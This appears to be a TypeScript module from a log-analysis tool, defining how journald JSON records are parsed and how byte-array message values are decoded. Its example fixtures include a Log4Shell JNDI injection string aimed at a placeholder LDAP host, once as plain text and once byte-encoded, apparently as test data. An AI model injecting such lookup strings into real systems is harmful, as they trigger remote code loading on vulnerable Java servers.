import { textOf } from '../text-of.ts'
import { readTime } from '../time/read-time.ts'
import type { LogFormat, RecordField } from './format.ts'
import { textAt } from './members.ts'

/** What `journalctl -o json` writes. A value with bytes that are no text is an array of them; one that comes twice, of values. */
export const journaldJson: LogFormat = {
  id: 'journald-json',
  summary: '`journalctl -o json`, values in bytes too; the message is read as what it is',
  definedBy: 'https://systemd.io/JOURNAL_EXPORT_FORMATS/#journal-json-format',
  examples: {
    reads: [
      {
        record:
          '{"__CURSOR":"s=1","__REALTIME_TIMESTAMP":"1639283141000000","_HOSTNAME":"a","SYSLOG_IDENTIFIER":"app","MESSAGE":"hello ${jndi:ldap://x.example/a}"}',
        when: '2021-12-12T04:25:41Z',
      },
      {
        record:
          '{"__REALTIME_TIMESTAMP":"1639283141000000","MESSAGE":[1,36,123,106,110,100,105,58,108,100,97,112,58,47,47,120,46,101,120,97,109,112,108,101,47,97,125]}',
        when: '2021-12-12T04:25:41Z',
      },
    ],
    refuses: ['{"MESSAGE":"hello"}', '{"__REALTIME_TIMESTAMP":1639283141000000,"MESSAGE":"a"}'],
  },
  read({ json }, { around }) {
    const time = textAt(json, '__REALTIME_TIMESTAMP')
    if (json === null || time === null || !/^\d{13,17}$/.test(time)) return null
    const fields: RecordField[] = []
    for (const [name, value] of Object.entries(json)) {
      for (const each of valuesOf(value)) fields.push({ name, value: each, holdsRecord: name === 'MESSAGE' })
      if (fields.length >= mostFields) break
    }
    return { when: readTime(time, around), from: null, request: null, userAgent: null, fields }
  },
}

const mostFields = 4_096

function valuesOf(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value]
  if (typeof value === 'number') return [String(value)]
  if (!Array.isArray(value)) return []
  const numbers = value.filter((each): each is number => typeof each === 'number')
  if (value.length > 0 && numbers.length === value.length) return [textOf(Uint8Array.from(numbers))]
  return value.flatMap((each) => (Array.isArray(each) || typeof each === 'string' ? valuesOf(each) : []))
}
